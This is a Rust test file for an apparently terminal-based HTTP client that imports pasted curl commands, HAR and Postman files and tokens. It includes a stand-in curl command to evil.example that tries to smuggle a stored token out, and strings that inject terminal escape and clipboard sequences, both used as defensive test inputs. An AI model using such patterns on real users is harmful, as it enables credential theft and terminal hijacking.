//! Pasted commands and answers, and what is copied: the state alone, then the real program.

use crate::scene;

use httriage::app::pane::{Clip, Editing};
use httriage::app::{Effect, Overlay, Pane, Pasted, Screen};
use httriage::engine::sandbox::CALLS;
use httriage::model::{
    Auth, Body, Environment, MASK, Outcome, Param, RequestSpec, Response, TokenName, is_unsafe,
};
use scene::{BASE, Scene, USUAL, WIDE, pasted_token, spec_of, start, text_of};

const FOREIGN: &str = "curl -X PUT 'https://api.other.example/core/runbooks/9?page=2' \\\r  -H 'Authorization: Bearer abcdef0123456789' \\\r  --data-raw 'hello' -H 'Content-Type: text/plain'";

fn token(name: &str) -> TokenName {
    TokenName::new(name).unwrap()
}

fn copied(scene: &Scene) -> (String, String) {
    let copied = scene.asked.iter().rev().find_map(|effect| match effect {
        Effect::Copy { what, text } => Some((what.clone(), text.clone())),
        _ => None,
    });
    copied.unwrap()
}

#[test]
fn a_pasted_command_fills_the_builder_wherever_the_focus_is() {
    for keys in [
        "",
        "tab",
        "enter",
        "/ 4 0 3",
        "] a",
        "ctrl-t",
        "?",
        "ctrl-k",
        "] ] ] down enter",
    ] {
        let mut scene = Scene::open(WIDE);
        scene.keys(keys).paste(FOREIGN);
        let spec = scene.state.builder.spec();
        assert_eq!(spec.method, "PUT", "{keys}");
        assert_eq!(spec.url, "https://api.other.example/core/runbooks/9");
        assert_eq!(spec.params, [Param::new("page", "2")]);
        assert_eq!(spec.body, Body::Text("hello".into()));
        assert_eq!(spec.auth, Auth::Bearer(token("bearer")));
        assert!(
            !scene.state.is_editing() && scene.state.overlay.is_none(),
            "{keys}"
        );
        assert_eq!(scene.state.focus, Pane::Request);
        // Nothing goes by itself, and the notice says what was found and for how long.
        assert_eq!(scene.jobs().len(), 1, "{keys}");
        assert!(scene.notice().contains("bearer ·a"), "{}", scene.notice());
        assert!(scene.notice().contains("this run and this host only"));
        assert_eq!(scene.state.environment().name, "https://api.other.example");
    }
}

#[test]
fn what_was_pasted_cannot_be_printed() {
    let mut scene = Scene::open(WIDE);
    scene.held = true;
    scene.paste(FOREIGN);
    let asked = scene.asked.last().unwrap();
    assert!(matches!(asked, Effect::TakeIn { .. }));
    let printed = format!(
        "{:?} {asked:?} {:?}",
        scene.state,
        Pasted("abcdef0123456789".into())
    );
    assert!(!printed.contains("abcdef0123456789"));
}

#[test]
fn the_environment_of_the_host_is_chosen_and_a_second_paste_adds_none() {
    let mut scene = Scene::open(WIDE);
    scene.paste(
        "curl https://acme-test.example/core/runbooks -H 'Authorization: Bearer abcdef0123456789'",
    );
    assert_eq!(scene.state.environment().name, "acme-test");
    scene.paste(&format!("curl {BASE}/core/users/me"));
    assert!(scene.state.environment().sandbox);
    let count = scene.state.environments.len();
    scene
        .paste(FOREIGN)
        .paste("curl https://acme-test.example/")
        .paste(FOREIGN);
    assert_eq!(scene.state.environments.len(), count + 1);
}

#[test]
fn a_command_of_a_stranger_gets_no_token_by_its_name() {
    let evil = "curl \"https://evil.example/?k={{token:desk}}\" -H \"Authorization: Bearer $HTTRIAGE_TOKEN_DESK\" -H 'X-A: {{token:desk}}' -H \"X-B: $HTTRIAGE_TOKEN_DESK\" -d '{{token:desk}}'";
    let mut scene = Scene::open(WIDE);
    // Also once the host is known from an earlier paste.
    for _ in 0..2 {
        scene.paste(evil);
        let spec = scene.state.builder.spec();
        assert_eq!(spec.auth, Auth::None);
        assert_eq!(spec.tokens(), [], "{spec:?}");
        // What the shell would have put in is gone, what stands in braces is text.
        let value = |name: &str| {
            let mut rows = spec.headers.iter().filter(|row| row.name == name);
            rows.next().map(|row| (row.value.as_str(), row.literal))
        };
        assert_eq!(value("X-B"), Some((MASK, false)));
        assert_eq!(value("X-A"), Some(("{{token:desk}}", true)));
        assert_eq!(spec.body, Body::Bytes(b"{{token:desk}}".to_vec()));
        assert!(scene.notice().contains("left out"), "{}", scene.notice());
        let before = scene.jobs().len();
        scene.keys("ctrl-r");
        assert_eq!(scene.jobs().len(), before, "{}", scene.notice());
    }
    // At home the name is as good as chosen.
    scene
        .paste("curl https://acme-test.example/ -H \"Authorization: Bearer $HTTRIAGE_TOKEN_DESK\"");
    assert_eq!(scene.state.builder.auth, Auth::Bearer(token("desk")));
}

#[test]
fn a_command_that_cannot_be_read_says_where_and_changes_nothing() {
    let mut scene = Scene::open(WIDE);
    let before = scene.state.builder.spec();
    scene.paste("curl 'https://a.example");
    assert!(
        scene.notice().contains(":1:6: a single quote"),
        "{}",
        scene.notice()
    );
    assert_eq!(scene.state.builder.spec(), before);
}

#[test]
fn a_pasted_answer_is_shown_remembered_and_never_sent() {
    let answer = "HTTP/2 404 \r\ncontent-type: application/json\r\nx-request-id: abc-123\r\n\r\n{\"errors\":[{\"code\":\"not_found\",\"title\":\"Not found\"}]}";
    let mut scene = Scene::open(WIDE);
    scene.keys("enter").paste(answer);
    assert_eq!(scene.status_in_front(), Some(404));
    assert_eq!(scene.state.focus, Pane::Response);
    assert!(!scene.state.builder.is_editing());
    assert_eq!(scene.jobs().len(), 1);
    let kept = scene.store.last().unwrap();
    assert!(kept.is_received());
    let text = text_of(&scene.picture());
    assert!(text.contains("pasted, nothing was sent"), "{text}");
    assert!(text.contains("x-request-id abc-123"), "{text}");
    // Its row leads back to it, leaves the builder alone, and cannot be sent again.
    let spec = scene.state.builder.spec();
    scene.keys("tab r");
    assert_eq!(scene.jobs().len(), 1);
    assert!(
        scene.notice().contains("nothing to send"),
        "{}",
        scene.notice()
    );
    assert_eq!(scene.state.builder.spec(), spec);
}

#[test]
fn json_is_an_answer_in_the_panes_and_text_in_a_field() {
    let json = "{\"errors\":[{\"status\":\"403\",\"code\":\"forbidden\"}]}";
    let mut scene = Scene::on_call(WIDE);
    scene.keys("down ] ] ] enter").paste(json);
    assert!(matches!(scene.state.builder.editing, Some(Editing::Body)));
    assert_eq!(scene.state.builder.body.text(), json);
    scene.keys("esc").paste(json);
    assert_eq!(scene.status_in_front(), Some(403));
    assert!(
        scene
            .state
            .response
            .shown
            .as_ref()
            .unwrap()
            .exchange
            .is_received()
    );
}

#[test]
fn a_pasted_url_is_the_url_and_other_words_are_explained() {
    let mut scene = Scene::open(WIDE);
    scene.keys("tab").paste("https://acme-test.example/x\n");
    assert_eq!(
        scene.state.builder.url.text(),
        "https://acme-test.example/x"
    );
    scene.paste("good morning");
    assert!(
        scene.notice().contains("no call and no answer"),
        "{}",
        scene.notice()
    );
}

#[test]
fn y_and_enter_copy_what_is_in_front() {
    let mut scene = Scene::on_call(WIDE);
    scene.keys("down y enter");
    let (what, text) = copied(&scene);
    assert_eq!(what, "the request as curl");
    assert!(
        text.starts_with(&format!("curl '{BASE}/core/runbooks/7/tasks'")),
        "{text}"
    );
    assert!(text.contains("\"$HTTRIAGE_TOKEN_SUPPORT\""));
    scene.keys("tab y enter");
    let (what, text) = copied(&scene);
    assert_eq!(what, "the error entry");
    assert_eq!(
        text,
        format!(
            "**Forbidden** (`forbidden`)\n\n> You need a role on this runbook to list its tasks.\n\n- 403 on `GET {BASE}/core/runbooks/7/tasks`, 2026-03-14T02:07:00Z\n"
        )
    );
    scene.keys("] y enter");
    assert_eq!(copied(&scene).0, "the body");
    scene.keys("] y enter");
    assert!(copied(&scene).1.contains("content-type: application/json"));
    scene.keys("tab y enter");
    let (what, text) = copied(&scene);
    assert_eq!(what, "the call as curl");
    assert!(text.contains("\"$HTTRIAGE_TOKEN_SUPPORT\""), "{text}");
    assert!(scene.notice().contains("Copied the call as curl"));
}

#[test]
fn nothing_that_is_copied_steers_a_terminal_or_holds_a_typed_secret() {
    let mut scene = Scene::open(USUAL);
    let mut spec = RequestSpec::new("POST", "{{base}}/x?api_key=hunter2hunter2");
    spec.headers = vec![Param::new("X-Api-Key", "hunter2hunter2")];
    spec.body =
        Body::Text("{\"password\": \"hunter2hunter2\", \"a\": \"\u{1b}[2J\u{202e}\"}".into());
    scene.outcomes = vec![Outcome::Answered(Response {
        status: 400,
        headers: [("x-request-id", "a\u{202e}b")].into_iter().collect(),
        body: "{\"errors\":[{\"title\":\"\\u001b]52;c;x\\u0007*\",\"detail\":\"a\\nb\u{202e}\"}]}\t\u{9b}".into(),
        ..Response::default()
    })];
    scene.send(&spec);
    let exchange = scene.state.response.shown.clone().unwrap().exchange;
    let clips = [
        Clip::Curl,
        Clip::Url,
        Clip::Body,
        Clip::Headers,
        Clip::Entry(0),
        Clip::RequestIds,
        Clip::Remedy,
        Clip::Row,
    ];
    let mut count = 0;
    for of in [None, Some(exchange)] {
        for clip in clips {
            if of.is_none()
                && matches!(
                    clip,
                    Clip::Headers | Clip::Entry(_) | Clip::RequestIds | Clip::Remedy
                )
            {
                continue;
            }
            scene.state.overlay = Some(Overlay::Dialog(httriage::app::pane::Dialog::new(
                "Copy",
                vec![httriage::app::pane::Choice {
                    label: String::new(),
                    note: String::new(),
                    pick: httriage::app::pane::Pick::Copy {
                        clip,
                        of: of.clone(),
                    },
                }],
                None,
            )));
            scene.asked.clear();
            scene.keys("enter");
            let Some(Effect::Copy { text, .. }) = scene.asked.first() else {
                continue;
            };
            count += 1;
            assert!(!text.contains(is_unsafe), "{clip:?} {text:?}");
            assert!(!text.contains("hunter2"), "{clip:?} {text}");
        }
    }
    assert!(count >= 9, "{count}");
}

#[test]
fn a_row_of_the_history_is_copied_from_without_being_loaded() {
    let mut scene = Scene::open(WIDE);
    scene.send(&spec_of(&CALLS[1]));
    let spec = scene.state.builder.spec();
    scene.keys("tab down y");
    assert!(
        matches!(&scene.state.overlay, Some(Overlay::Dialog(dialog)) if dialog.title == "Copy")
    );
    scene.keys("enter");
    assert!(copied(&scene).1.contains("/core/runbooks/7/tasks"));
    assert_eq!(scene.state.builder.spec(), spec);
}

#[test]
fn a_command_on_the_command_line_warns_when_it_holds_a_credential() {
    for (text, warns) in [(FOREIGN, true), ("curl https://a.example", false)] {
        let mut start = start(WIDE);
        start.send_first = false;
        start.pasted = Some(Pasted(text.replace('\r', "\n")));
        start.was_argument = true;
        let mut scene = Scene::closed(start);
        scene.held = false;
        scene.answer_all();
        assert_eq!(
            scene.notice().contains("others on this machine"),
            warns,
            "{}",
            scene.notice()
        );
        assert!(scene.jobs().is_empty());
        let environment: &Environment = scene.state.environment();
        assert!(environment.base_url.starts_with("https://"));
    }
}

/// Two calls as a browser saves them, the second one refused.
fn recording() -> String {
    let call = |path: &str, status: u16| {
        format!(
            r#"{{ "startedDateTime": "2024-05-12T09:30:00Z", "time": 41.5,
            "request": {{ "method": "GET", "url": "https://api.acme.example{path}", "httpVersion": "h2",
              "headers": [ {{ "name": "authorization", "value": "Bearer harsecret11223344" }} ] }},
            "response": {{ "status": {status}, "statusText": "", "httpVersion": "h2", "headers": [],
              "content": {{ "size": 2, "mimeType": "application/json", "text": "{{}}" }} }},
            "timings": {{ "send": 0, "wait": 40, "receive": 1 }} }}"#
        )
    };
    let calls = [call("/core/users/me", 200), call("/core/runbooks", 403)];
    format!(
        r#"{{ "log": {{ "version": "1.2", "entries": [{}] }} }}"#,
        calls.join(",")
    )
}

#[test]
fn a_pasted_recording_fills_the_builder_and_is_a_session_with_what_was_recorded() {
    let mut scene = Scene::open(WIDE);
    scene.paste(&recording());
    let spec = scene.state.builder.spec();
    assert_eq!(spec.url, "https://api.acme.example/core/users/me");
    assert_eq!(spec.auth, Auth::Bearer(token("bearer")));
    assert_eq!(
        scene.state.environment().base_url,
        "https://api.acme.example"
    );
    let notice = scene.notice();
    for words in [
        "The pasted recording holds 2 calls",
        "3 shows all as a session, which ^S saves there",
        "nothing was sent",
        "Found bearer",
    ] {
        assert!(notice.contains(words), "{words}: {notice}");
    }
    assert!(!notice.contains("harsecret"), "{notice}");
    scene.keys("3");
    assert_eq!(scene.state.screen, Screen::Sessions);
    let session = &scene.state.sessions.open.as_ref().unwrap().session;
    assert_eq!(session.steps.len(), 2);
    let expected = session.steps[1].expect.as_ref().unwrap();
    assert_eq!(expected.status, Some(403));
    assert!(!format!("{:?}", scene.state.sessions).contains("harsecret"));
    assert!(text_of(&scene.picture()).contains("403"));
    assert_eq!(
        scene.jobs().len(),
        1,
        "only the first call of the sandbox was sent"
    );
}

#[test]
fn a_recording_pasted_into_the_body_is_text_and_a_broken_one_is_named() {
    let mut scene = Scene::on_call(WIDE);
    scene.keys("down [ [ enter").paste(&recording());
    assert!(scene.state.builder.body.text().contains("harsecret"));
    assert!(scene.state.sessions.open.is_none());
    let mut scene = Scene::open(WIDE);
    let before = scene.state.builder.spec();
    scene.paste("{ \"log\": { \"entries\": [ { ");
    assert_eq!(scene.state.builder.spec(), before);
    assert!(
        scene.notice().contains("this is no HAR recording"),
        "{}",
        scene.notice()
    );
}

#[test]
fn a_recording_that_names_a_token_of_ours_does_not_get_it() {
    let text = recording().replace("Bearer harsecret11223344", "Bearer {{token:desk}}");
    let mut scene = Scene::open(WIDE);
    scene.paste(&text);
    // What stands there is a credential like any other text, and goes by a name of its own.
    let session = &scene.state.sessions.open.as_ref().unwrap().session;
    for step in &session.steps {
        let named = step.spec.tokens();
        let named: Vec<&str> = named.iter().map(|name| name.as_str()).collect();
        assert!(!named.contains(&"desk"), "{named:?}");
    }
}

const DESCRIPTION: &str = "openapi: 3.0.0\ninfo: {title: Acme, version: 1}\nservers: [{url: 'https://api.acme.example/v1'}]\nsecurity: [{desk: []}]\npaths:\n  /runbooks/{id}:\n    parameters: [{name: id, in: path, required: true, example: 7}, {name: key, in: query, required: true, example: describedsecret1}]\n    get: {}\n    put: {}\ncomponents: {securitySchemes: {desk: {type: http, scheme: bearer}}}\n";

#[test]
fn a_pasted_description_fills_the_builder_with_its_first_call_and_is_a_session() {
    let mut scene = Scene::open(WIDE);
    scene.paste(&DESCRIPTION.replace('\n', "\r"));
    let spec = scene.state.builder.spec();
    assert_eq!(spec.url, "https://api.acme.example/v1/runbooks/7");
    assert_eq!(spec.params, [Param::new("key", "{{token:key}}")]);
    // Its own token is not bound to a host that only the text names.
    assert_eq!(spec.auth, Auth::None);
    assert_eq!(
        scene.state.environment().base_url,
        "https://api.acme.example"
    );
    let notice = scene.notice();
    for words in [
        "The pasted OpenAPI document holds 2 calls",
        "3 shows all as a session",
        "nothing was sent",
        "Found key",
        "It names desk",
    ] {
        assert!(notice.contains(words), "{words}: {notice}");
    }
    let session = &scene.state.sessions.open.as_ref().unwrap().session;
    assert_eq!(session.steps.len(), 2);
    assert_eq!(session.variables, [("id".to_owned(), "7".to_owned())]);
    assert!(!format!("{:?} {notice}", scene.state).contains("describedsecret"));
    assert_eq!(scene.jobs().len(), 1);
}

#[test]
fn a_description_pasted_into_the_body_is_text_and_a_broken_one_is_named() {
    let mut scene = Scene::on_call(WIDE);
    scene.keys("down [ [ enter").paste(DESCRIPTION);
    assert!(scene.state.builder.body.text().contains("openapi"));
    assert!(scene.state.sessions.open.is_none());
    let mut scene = Scene::open(WIDE);
    scene.paste(&DESCRIPTION.replace("paths:", "paths: ["));
    assert!(
        scene.notice().contains("no YAML that can be read"),
        "{}",
        scene.notice()
    );
}

#[test]
fn a_text_too_large_for_a_field_is_pasted_whole_and_only_looked_at() {
    let mut scene = Scene::on_call(WIDE);
    let text = "line\n".repeat(30_000);
    scene
        .keys("down [ [ enter")
        .paste(&text.replace('\n', "\r"));
    assert_eq!(scene.state.builder.spec().body, Body::Text(text));
    assert!(!scene.state.builder.is_editing());
    assert!(scene.notice().contains("too large to be edited here"));
    let picture = text_of(&scene.picture());
    assert!(picture.contains("large text"), "{picture}");
    assert!(
        picture.contains("Only the beginning is shown; e opens all of it."),
        "{picture}"
    );
    scene.keys("enter");
    assert!(!scene.state.builder.is_editing());
}

const REQUEST: &str = "@host = https://api.other.example/v1\r\r### Change it\rPUT {{host}}/core/runbooks/{{id}}?page=2 HTTP/1.1\rAuthorization: Bearer abcdef0123456789\rContent-Type: text/plain\r\rhello\r";

#[test]
fn a_pasted_http_request_fills_the_builder_as_a_command_does() {
    for keys in ["", "tab", "enter", "/ 4 0 3", "ctrl-k"] {
        let mut scene = Scene::open(WIDE);
        scene.keys(keys).paste(&REQUEST.replace("{{id}}", "9"));
        let spec = scene.state.builder.spec();
        assert_eq!(spec.method, "PUT", "{keys}");
        assert_eq!(spec.url, "https://api.other.example/v1/core/runbooks/9");
        assert_eq!(spec.params, [Param::new("page", "2")]);
        assert_eq!(spec.body, Body::Text("hello".into()));
        assert_eq!(spec.auth, Auth::Bearer(token("bearer")));
        assert!(!scene.state.is_editing() && scene.state.overlay.is_none());
        assert!(scene.state.sessions.open.is_none());
        assert_eq!(scene.state.environment().name, "https://api.other.example");
        let notice = scene.notice();
        assert!(
            notice.contains("The pasted request is in the builder; nothing was sent."),
            "{notice}"
        );
        assert!(notice.contains("this run and this host only"), "{notice}");
        // In the builder the base is said in full.
        assert!(!notice.contains("{{base}}"), "{notice}");
        assert_eq!(scene.jobs().len(), 1, "{keys}");
    }
    // Several are a session as well.
    let mut scene = Scene::open(WIDE);
    scene.paste(&format!("{REQUEST}\r###\rGET {{{{host}}}}/two\r"));
    let notice = scene.notice();
    assert!(
        notice.contains("The pasted list of requests holds 2 calls"),
        "{notice}"
    );
    // Behind the key that is named there its steps are in front, also where one part is seen.
    scene.resize(USUAL);
    scene.keys("3");
    let screen = text_of(&scene.picture());
    assert!(screen.contains("2 steps, nothing sent yet"), "{screen}");
    let session = &scene.state.sessions.open.as_ref().unwrap().session;
    assert_eq!(
        session.steps[1].spec.url,
        "https://api.other.example/v1/two"
    );
    // A line alone may be what is looked for.
    let mut scene = Scene::open(WIDE);
    let before = scene.state.builder.spec();
    scene.keys("tab /").paste("GET /core/runbooks");
    assert_eq!(scene.state.builder.spec(), before);
    assert!(scene.state.history.filtering);
    // In the body it is a body.
    let mut scene = Scene::on_call(WIDE);
    scene.keys("down [ [ enter").paste(REQUEST);
    assert!(scene.state.builder.body.text().contains("PUT {{host}}"));
}

#[test]
fn a_path_that_is_pasted_stays_in_the_environment_that_is_open() {
    let mut scene = Scene::open(WIDE);
    let before = scene.state.environment().name.clone();
    scene.paste("GET {{baseUrl}}/core/users/me\r");
    assert_eq!(scene.state.builder.spec().url, "{{base}}/core/users/me");
    scene.paste("DELETE /core/runbooks/9");
    assert_eq!(scene.state.builder.spec().url, "/core/runbooks/9");
    assert_eq!(scene.state.builder.spec().method, "DELETE");
    assert_eq!(scene.state.environment().name, before);
}

#[test]
fn a_pasted_collection_is_a_session_and_its_first_request_is_in_the_builder() {
    let request = |name: &str, path: &str| {
        format!(
            r#"{{ "name": "{name}", "request": {{ "method": "GET", "url": "{{{{baseUrl}}}}{path}" }} }}"#
        )
    };
    let text = format!(
        r#"{{ "info": {{ "name": "Acme API", "_postman_id": "1" }},
        "auth": {{ "type": "bearer", "bearer": [{{ "key": "token", "value": "{{{{access}}}}" }}] }},
        "variable": [ {{ "key": "baseUrl", "value": "https://api.acme.example/v1" }}, {{ "key": "access", "value": "postmansecret1122" }}, {{ "key": "id", "value": "7" }} ],
        "item": [ {}, {{ "name": "F", "item": [ {} ] }} ] }}"#,
        request("one", "/core/runbooks/{{id}}"),
        request("two", "/core/users/me"),
    );
    let mut scene = Scene::open(WIDE);
    scene.paste(&text);
    let spec = scene.state.builder.spec();
    assert_eq!(spec.url, "https://api.acme.example/v1/core/runbooks/7");
    assert_eq!(spec.auth, Auth::Bearer(token("access")));
    let notice = scene.notice();
    assert!(
        notice.contains("The pasted Postman collection holds 2 calls"),
        "{notice}"
    );
    assert!(
        notice.contains("nothing was sent") && notice.contains("access"),
        "{notice}"
    );
    scene.keys("3");
    let session = &scene.state.sessions.open.as_ref().unwrap().session;
    assert_eq!(session.steps[1].name, "F / two");
    assert_eq!(
        session.steps[1].spec.url,
        "https://api.acme.example/v1/core/users/me"
    );
    assert!(!format!("{:?}", scene.state.sessions).contains("postmansecret"));
    assert_eq!(scene.jobs().len(), 1);
}

#[test]
fn a_pasted_request_of_a_stranger_gets_no_token_by_its_name() {
    for text in [
        "GET https://evil.example/?k={{token:desk}}\rAuthorization: Bearer {{desk}}\rX-A: {{token:desk}}\r\r{{token:desk}}",
        r#"{"info": {"_postman_id": "1"}, "item": [{"name": "x", "request": {"url": "https://evil.example/{{token:desk}}", "auth": {"type": "bearer", "bearer": {"token": "{{desk}}"}}}}]}"#,
    ] {
        let mut scene = Scene::open(WIDE);
        scene.paste(text);
        let spec = scene.state.builder.spec();
        assert_eq!(spec.auth, Auth::None);
        assert!(!format!("{spec:?}").contains("token:desk"), "{spec:?}");
        assert!(scene.notice().contains("left out"), "{}", scene.notice());
    }
}

// Tokens

const JWT: &str = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJzdmMtZXhwb3J0IiwiaXNzIjoiaHR0cHM6Ly9sb2dpbi5nbG9iZXguZXhhbXBsZSIsImV4cCI6MTc3MzQ1NDY0MCwic2NvcGUiOiJvcmRlcnM6cmVhZCJ9.c3Nzc3Nzc3Nzc3Nzc3Nzc3Nzc3Nzc3Nzc3Nzc3Nzc3M";

#[test]
fn a_pasted_token_opens_on_what_it_says_and_is_drawn_nowhere() {
    for size in scene::SIZES {
        let mut scene = Scene::open(size);
        scene.tell(pasted_token(JWT, true));
        let picture = text_of(&scene.picture());
        assert!(picture.contains("Pasted: a token"), "{picture}");
        assert!(picture.contains("neither kept nor sent"), "{picture}");
        assert!(picture.contains("JWT"), "{picture}");
        assert!(picture.contains("use for this run"), "{picture}");
        if size != scene::SMALL {
            for words in [
                "fingerprint 7b62",
                "svc-export",
                "orders:read",
                "the scheme in front of it: taken off",
                "login.globex.example",
                "keep as",
            ] {
                assert!(picture.contains(words), "{words}: {picture}");
            }
        }
        assert!(!picture.contains("eyJ"), "{picture}");
        assert!(!format!("{:?}", scene.state).contains("eyJ"));
        assert!(!format!("{:?}", scene.asked).contains("eyJ"));
        scene.keys("esc");
        assert!(scene.state.overlay.is_none());
        assert_eq!(scene.asked.last(), Some(&Effect::ForgetTyped));
    }
}

#[test]
fn u_takes_a_pasted_token_for_this_run_and_this_place_alone() {
    let mut scene = Scene::open(WIDE);
    scene.keys("ctrl-e down enter");
    scene.tell(pasted_token(JWT, true)).keys("u");
    let used = scene.asked.iter().find_map(|effect| match effect {
        Effect::UseToken { name, origin } => Some((name.to_string(), origin.to_string())),
        _ => None,
    });
    let (name, origin) = used.unwrap();
    assert_eq!((&*name, &*origin), ("pasted", "https://acme-live.example"));
    assert_eq!(scene.state.token().unwrap().name.as_str(), "pasted");
    assert!(
        scene.notice().contains("in this run alone"),
        "{}",
        scene.notice()
    );
}

#[test]
fn s_keeps_a_pasted_token_with_its_value_waiting() {
    let mut scene = Scene::open(WIDE);
    scene.keys("ctrl-e down enter");
    scene.tell(pasted_token(JWT, true));
    let before = scene.asked.len();
    scene.keys("s");
    assert!(!scene.asked[before..].contains(&Effect::ForgetTyped));
    let picture = text_of(&scene.picture());
    assert!(picture.contains("characters"), "{picture}");
    assert!(picture.contains("its name"), "{picture}");
}

#[test]
fn a_token_pasted_over_the_whole_url_of_the_form_goes_unseen_to_its_own_row() {
    let value = "qF7mZx2Lw9Rk4Tb8Vn3Yc6Hd";
    for size in scene::SIZES {
        let mut scene = Scene::open(size);
        scene.keys("ctrl-e up enter");
        scene.tell(pasted_token(value, false));
        // Without a URL the row may wait for anything.
        assert!(scene.asked.last() == Some(&Effect::TypeToken(false)));
        scene
            .keys("ctrl-u")
            .paste("https://api.acme.example/v2/orders");
        scene.tell(pasted_token(value, false));
        let held = Effect::HoldToken(Pasted(value.to_owned()));
        assert!(scene.asked.contains(&held), "{:?}", scene.asked.last());
        assert_eq!(scene.asked.last(), Some(&Effect::TypeToken(true)));
        let picture = text_of(&scene.picture());
        assert!(!picture.contains("qF7m"), "{picture}");
        assert!(picture.contains("opaque"), "{picture}");
    }
}

#[test]
fn c_copies_what_a_pasted_token_says_and_never_its_value() {
    let mut scene = Scene::open(WIDE);
    scene.tell(pasted_token(JWT, true)).keys("c");
    let (what, text) = copied(&scene);
    assert_eq!(what, "what the token says");
    assert!(
        text.contains("orders:read") && !text.contains("eyJ"),
        "{text}"
    );
    // The sheet stays.
    assert!(scene.state.overlay.is_some());
}

#[test]
fn where_a_text_is_typed_a_token_is_text_and_an_id_on_the_call_line_too() {
    let id = "0f7a".repeat(12);
    let mut scene = Scene::on_call(WIDE);
    scene.types("/x/").tell(pasted_token(&id, false));
    assert!(
        scene
            .state
            .builder
            .url
            .text()
            .ends_with(&format!("/x/{id}"))
    );
    let mut scene = Scene::on_call(WIDE);
    scene.tell(pasted_token(&id, false));
    assert!(scene.state.overlay.is_none());
    let mut scene = Scene::on_call(WIDE);
    scene.tell(pasted_token(JWT, true));
    assert!(scene.state.overlay.is_some());
}

// A command and what it brought

#[test]
fn a_command_and_its_output_are_one_call_with_its_answer() {
    let text = "Hello team,\nwe run\n\n$ curl -X PUT https://api.acme.example/orders/7 \\\n  -d '{\n  \"a\": 1\n}'\n\nand get\n\n{\"errors\":[{\"title\":\"Forbidden\",\"code\":\"forbidden\"}]}\n\nKind regards\n";
    let mut scene = Scene::open(WIDE);
    scene.paste(text);
    let shown = scene.state.response.shown.as_ref().unwrap();
    assert_eq!(shown.exchange.sent.method, "PUT");
    assert_eq!(shown.exchange.sent.url, "https://api.acme.example/orders/7");
    assert_eq!(shown.errors.entries[0].code.as_deref(), Some("forbidden"));
    let said = &scene.state.notice.as_ref().unwrap().remedy;
    assert_eq!(
        said,
        "Read as a command and what it brought. 4 lines of words around them were left out."
    );
    // Alone it is a request, and two of them are none with an answer.
    let mut scene = Scene::open(WIDE);
    scene.paste("curl https://api.acme.example/orders/7\n\nThanks, Kim");
    assert!(
        scene.state.builder.url.text().contains("orders/7"),
        "{}",
        scene.notice()
    );
    let mut scene = Scene::open(WIDE);
    scene.paste(
        "curl https://api.acme.example/1\ncurl: (6) Could not resolve host: api.acme.example",
    );
    let shown = scene.state.response.shown.as_ref().unwrap();
    assert!(matches!(shown.exchange.outcome, Outcome::Failed(_)));
    assert_eq!(shown.exchange.sent.url, "https://api.acme.example/1");
}
